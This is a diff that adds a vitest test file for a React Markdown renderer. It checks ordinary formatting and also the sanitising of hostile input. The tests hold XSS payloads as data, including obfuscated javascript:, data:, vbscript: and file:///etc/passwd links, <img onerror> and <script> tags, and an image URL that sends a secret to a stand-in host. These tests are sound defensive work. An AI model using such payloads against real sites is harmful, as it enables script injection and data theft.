@@ -1,0 +1,126 @@
+import { en } from '@savet/i18n/en';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, test } from 'vitest';
+import { LanguageContext } from '../../../lib/language/language-context.ts';
+import { Markdown } from './markdown.tsx';
+
+describe('an answer', () => {
+  test.each([
+    ['headings, below those of the page', '# One\n\n#### Four', ['<h3>One</h3>', '<h6>Four</h6>']],
+    [
+      'emphasis',
+      '**bold** *soft* ~~gone~~ `code`',
+      ['<strong>bold</strong>', '<em>soft</em>', '<del>gone</del>', '<code>code</code>'],
+    ],
+    [
+      'lists',
+      '- a\n- b\n\n3. c',
+      ['<ul><li>a</li><li>b</li></ul>', '<ol start="3"><li>c</li></ol>'],
+    ],
+    ['tasks', '- [x] done\n- [ ] open', ['☑ ', 'done', '☐ ', 'open']],
+    [
+      'tables',
+      '| a | b |\n|--|--:|\n| 1 | 2 |',
+      ['<th scope="col">a</th>', '<td data-align="right">2</td>'],
+    ],
+    [
+      'code as it is',
+      '```html\n<b>&amp;</b>\n```',
+      ['<span>html</span>', '&lt;b&gt;&amp;amp;&lt;/b&gt;'],
+    ],
+    ['quotes and rules', '> said\n\n---', ['<blockquote><p>said</p></blockquote>', '<hr/>']],
+    ['line breaks', 'one  \ntwo<br>three', ['one<br/>two<br/>three']],
+    [
+      'entities as their characters',
+      'Q&amp;A &lt;b&gt; &#8364;5 &unknown;',
+      ['Q&amp;A &lt;b&gt; €5 &amp;unknown;'],
+    ],
+  ])('shows %s', (_name, text, parts) => {
+    for (const part of parts) expect(html(text)).toContain(part);
+  });
+
+  test.each(['$2bn to $4bn', '100–200 лв.', '€5', 'from ~5 to ~10 and ~7', 'a_b_c'])(
+    'leaves %s as text',
+    (text) => {
+      expect(textOf(html(text))).toBe(text);
+    },
+  );
+
+  test('links open beside the page and say where they lead', () => {
+    expect(html('[our page](https://example.test:8443/a?b=1&amp;c=2)')).toContain(
+      '<a href="https://example.test:8443/a?b=1&amp;c=2" title="example.test:8443" target="_blank" rel="noopener noreferrer">our page</a>',
+    );
+    expect(html('<ana@example.test>')).toContain('href="mailto:ana@example.test"');
+  });
+
+  test.each([
+    ['a script', '[x](javascript:alert(1))'],
+    ['a script in capitals', '[x](JaVaScRiPt:alert(1))'],
+    ['a script split by a tab', '[x](<java\tscript:alert(1)>)'],
+    ['a script split by a line', '[x](<java&#10;script:alert(1)>)'],
+    ['a script hidden by entities', '[x](javascript&#58;alert(1))'],
+    ['a script hidden by named entities', '[x](java&Tab;script&colon;alert(1))'],
+    ['a script after a control character', '[x](&#1;javascript:alert(1))'],
+    ['a script by reference', '[x][1]\n\n[1]: javascript:alert(1)'],
+    ['a script in angle brackets', '<javascript:alert(1)>'],
+    ['data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
+    ['vbscript', '[x](vbscript:msgbox(1))'],
+    ['a file', '[x](file:///etc/passwd)'],
+    ['a path of this site', '[x](/api/auth/sign-out)'],
+    ['a host without a protocol', '[x](//evil.test/)'],
+    ['an image that is a script', '![x](javascript:alert(1))'],
+  ])('%s is no link', (_name, text) => {
+    expect(html(text)).not.toContain('<a ');
+  });
+
+  test.each([
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<script>alert(1)</script>',
+    '<style>*{display:none}</style>',
+    'text <b onmouseover=alert(1)>bold</b>',
+    '<!-- <img src=x> -->',
+  ])('%s is shown as it was written', (text) => {
+    const shown = html(text);
+    expect(shown.replaceAll(/<\/?(?:div|p)\b[^>]*>/g, '')).not.toContain('<');
+    expect(textOf(shown)).toBe(text);
+  });
+
+  test('an image is never loaded, but can be opened', () => {
+    const shown = html(
+      '![chart](https://evil.test/?d=secret) and [![x](https://evil.test/i)](https://b.test)',
+    );
+    expect(shown).not.toContain('<img');
+    expect(shown).toContain(
+      'title="evil.test" target="_blank" rel="noopener noreferrer">chart</a>',
+    );
+  });
+
+  test('an image without words shows its address', () => {
+    expect(html('![](https://evil.test/i.png)')).toContain('>https://evil.test/i.png</a>');
+  });
+});
+
+function html(text: string): string {
+  const language = { language: 'EN', locale: 'en', texts: en, choose() {} } as const;
+  return renderToStaticMarkup(
+    <LanguageContext value={language}>
+      <Markdown text={text} />
+    </LanguageContext>,
+  );
+}
+
+/** What a reader sees. */
+function textOf(markup: string): string {
+  const entities: Record<string, string> = {
+    '&lt;': '<',
+    '&gt;': '>',
+    '&quot;': '"',
+    '&#x27;': "'",
+    '&amp;': '&',
+  };
+  return markup
+    .replaceAll(/<[^>]*>/g, '')
+    .replaceAll(/&(?:lt|gt|quot|#x27|amp);/g, (entity) => entities[entity] ?? entity);
+}
